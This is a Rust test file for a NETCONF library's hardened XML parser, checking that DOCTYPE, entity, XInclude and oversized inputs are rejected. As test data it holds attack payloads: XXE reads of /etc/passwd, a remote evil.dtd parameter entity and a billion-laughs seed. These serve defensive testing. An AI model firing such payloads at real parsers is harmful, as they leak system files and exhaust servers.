//! XML Security Tests
//!
//! Tests for the hardened parser contract:
//! - DOCTYPE declarations are always rejected
//! - External and internal entity definitions never resolve
//! - XInclude directives are always rejected
//! - Inputs are never partially parsed

use netconf_core::xml::{parse_document, parse_with_limits, ParserLimits, XmlError};

// =============================================================================
// DOCTYPE Rejection
// =============================================================================

/// Every DOCTYPE variant is rejected outright.
#[test]
fn test_doctype_always_rejected() {
    let payloads = [
        // plain
        "<!DOCTYPE rpc><rpc/>",
        // internal entity definition (billion-laughs seed)
        "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
        // external general entity (XXE)
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
        // external parameter entity
        "<!DOCTYPE foo [<!ENTITY % remote SYSTEM \"http://192.0.2.9/evil.dtd\">%remote;]><foo/>",
        // doctype after declaration
        "<?xml version=\"1.0\"?><!DOCTYPE rpc SYSTEM \"rpc.dtd\"><rpc/>",
    ];
    for payload in payloads {
        let err = parse_document(payload).unwrap_err();
        assert!(
            matches!(err, XmlError::Malformed(_)),
            "payload was not rejected as malformed: {payload}"
        );
    }
}

// =============================================================================
// Entity Expansion
// =============================================================================

/// Undeclared entity references fail the parse; nothing is resolved.
#[test]
fn test_undeclared_entities_fail() {
    for payload in [
        "<rpc>&xxe;</rpc>",
        "<rpc attr=\"&evil;\"/>",
        "<rpc>&unknown;</rpc>",
    ] {
        assert!(parse_document(payload).is_err(), "accepted: {payload}");
    }
}

/// Only the five predefined entities and character references expand.
#[test]
fn test_predefined_entities_still_work() {
    let document =
        parse_document("<data attr=\"&quot;q&quot;\">&lt;tag&gt; &amp; &apos;text&apos; &#65;</data>")
            .unwrap();
    let root = document.root().unwrap();
    assert_eq!(root.attribute("attr"), Some("\"q\""));
    assert_eq!(root.text(), "<tag> & 'text' A");
}

// =============================================================================
// XInclude
// =============================================================================

/// Elements in the XInclude namespace are rejected, whatever the prefix.
#[test]
fn test_xinclude_rejected() {
    let payloads = [
        "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></root>",
        "<include xmlns=\"http://www.w3.org/2001/XInclude\" href=\"secret.xml\"/>",
    ];
    for payload in payloads {
        let err = parse_document(payload).unwrap_err();
        assert!(matches!(err, XmlError::Malformed(_)), "accepted: {payload}");
    }
}

// =============================================================================
// No Partial Parsing
// =============================================================================

/// A rejected input yields an error, never a partial document.
#[test]
fn test_rejection_is_total() {
    // well-formed prefix followed by a policy violation
    let payload = "<rpc><ok/><!DOCTYPE late><more/></rpc>";
    match parse_document(payload) {
        Err(XmlError::Malformed(_)) => {}
        other => panic!("expected malformed error, got {other:?}"),
    }
}

// =============================================================================
// Resource Bounds
// =============================================================================

/// Nesting beyond the configured depth fails.
#[test]
fn test_depth_bound() {
    let deep = format!("{}{}", "<a>".repeat(100), "</a>".repeat(100));
    let limits = ParserLimits {
        max_depth: 32,
        ..ParserLimits::default()
    };
    assert!(parse_with_limits(&deep, &limits).is_err());
}

/// Oversized inputs fail before any tree is built.
#[test]
fn test_size_bound() {
    let limits = ParserLimits {
        max_input_bytes: 64,
        ..ParserLimits::default()
    };
    let big = format!("<data>{}</data>", "x".repeat(128));
    assert!(parse_with_limits(&big, &limits).is_err());
}

/// Invalid limits are an environment error, distinct from bad input.
#[test]
fn test_invalid_limits_are_fatal_setup_errors() {
    let limits = ParserLimits {
        max_input_bytes: 0,
        ..ParserLimits::default()
    };
    let err = parse_with_limits("<ok/>", &limits).unwrap_err();
    assert!(matches!(err, XmlError::ParserSetup(_)));
    assert!(err.is_fatal());
}
